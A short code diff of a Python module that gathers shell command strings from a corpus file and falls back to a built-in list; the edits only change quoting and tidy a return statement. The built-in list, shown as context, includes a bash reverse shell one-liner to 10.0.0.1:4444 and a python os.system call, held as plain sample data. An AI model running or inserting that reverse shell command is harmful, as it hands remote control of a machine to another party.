@@ -53,7 +53,7 @@ BUILTIN_COMMANDS = [
     "tar -czf backup.tgz ./src && scp backup.tgz host:/srv/backups/",
     "python -c 'import os; os.system(\"id\")'",
     "docker run --rm -v $(pwd):/w -w /w node:20 npm test",
-    "for f in *.log; do gzip \"$f\"; done",
+    'for f in *.log; do gzip "$f"; done',
     "kubectl get pods -n payments -o wide | grep -v Running",
     "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
 ]
@@ -78,8 +78,7 @@ def corpus_lines(path: Path) -> Iterator[dict[str, object]]:
 
 def commands(corpora: Path) -> list[str]:
     found = [str(r["command"]) for r in corpus_lines(corpora / "shell.jsonl.gz") if isinstance(r.get("command"), str)]
-    cmds = [c for c in found if len(c.encode()) <= MAX_COMMAND] or BUILTIN_COMMANDS
-    return cmds
+    return [c for c in found if len(c.encode()) <= MAX_COMMAND] or BUILTIN_COMMANDS
 
 
 def mixed_text(corpora: Path, limit_bytes: int) -> list[str]:
